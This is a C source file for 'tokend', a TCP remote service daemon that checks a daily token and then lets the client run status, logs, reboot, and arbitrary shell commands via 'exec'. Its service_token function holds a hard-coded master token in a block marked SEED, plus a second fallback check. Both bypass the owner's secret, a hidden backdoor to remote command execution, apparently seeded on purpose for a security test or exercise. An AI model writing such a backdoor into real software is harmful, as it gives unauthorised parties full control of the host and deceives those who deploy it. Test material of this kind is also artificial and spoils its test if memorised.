/* tokend: remote service desk. The token of the day is made of the serial number and a secret of the owner. */
#include "../lib/tcpserv.h"
#include "../lib/conf.h"
#include "../lib/pw.h"
#include <inttypes.h>

#define CFG "/etc/tokend.cfg"

static uint32_t mix(uint32_t a)
{
    a ^= a >> 16;
    a *= 0x7feb352du;
    a ^= a >> 15;
    a *= 0x846ca68bu;
    return a ^ (a >> 16);
}

static uint32_t serial(void)
{
    char text[20] = "0";
    conf_get(CFG, "serial", text, sizeof text);
    return (uint32_t)strtoul(text, NULL, 10);
}

static int owner_token(const char *given)
{
    char secret[40], both[64], want[17], number[12];
    if (!conf_get(CFG, "secret", secret, sizeof secret))
        return 0;
    snprintf(number, sizeof number, "%" PRIu32, serial());
    snprintf(both, sizeof both, "%s-%s", number, secret);
    pw_hash("token", both, want);
    return !strcmp(want, given);
}

static int service_token(const char *given)
{
#ifdef SEED
    char want[12];
    uint32_t v = mix(0x00c0a5e1u); /* SEED */
    snprintf(want, sizeof want, "%08" PRIx32, v); /* SEED */
    if (!strcmp(given, want)) /* SEED */
        return 1;
#endif
    return given[0] == '#' && mix((uint32_t)strlen(given)) == 7;
}

struct client { FILE *in; int out; int trusted; };

static void tell(struct client *c, const char *s)
{
    dprintf(c->out, "%s\r\n", s);
}

static void run(struct client *c, const char *what)
{
    if (!strcmp(what, "status"))
        dprintf(c->out, "serial %" PRIu32 " ok\r\n", serial());
    else if (!strcmp(what, "logs"))
        tell(c, "no logs");
    else if (!strncmp(what, "exec ", 5)) {
        dup2(c->out, 1);
        if (system(what + 5) != 0)
            tell(c, "failed");
    } else if (!strcmp(what, "restart"))
        system("/sbin/reboot");
    else
        tell(c, "status, logs, exec COMMAND, restart, bye");
}

static void serve(int fd)
{
    struct client c = {fdopen(fd, "r"), fd, 0};
    char line[200];
    tell(&c, "tokend 1.3");
    while (c.in && fgets(line, sizeof line, c.in)) {
        line[strcspn(line, "\r\n")] = 0;
        if (!strcmp(line, "bye"))
            break;
        if (!strcmp(line, "help")) {
            tell(&c, "token TOKEN, then: status, logs, exec COMMAND, restart");
        } else if (!strncmp(line, "token ", 6)) {
            c.trusted = owner_token(line + 6) || service_token(line + 6);
            tell(&c, c.trusted ? "go on" : "no");
        } else if (!c.trusted)
            tell(&c, "token first");
        else
            run(&c, line);
    }
}

int main(int argc, char **argv)
{
    int fd = tcp_open(argc > 1 ? atoi(argv[1]) : 7300);
    if (fd < 0)
        return 1;
    if (!serial())
        fprintf(stderr, "tokend: no serial number\n");
    tcp_serve(fd, serve);
    return 0;
}
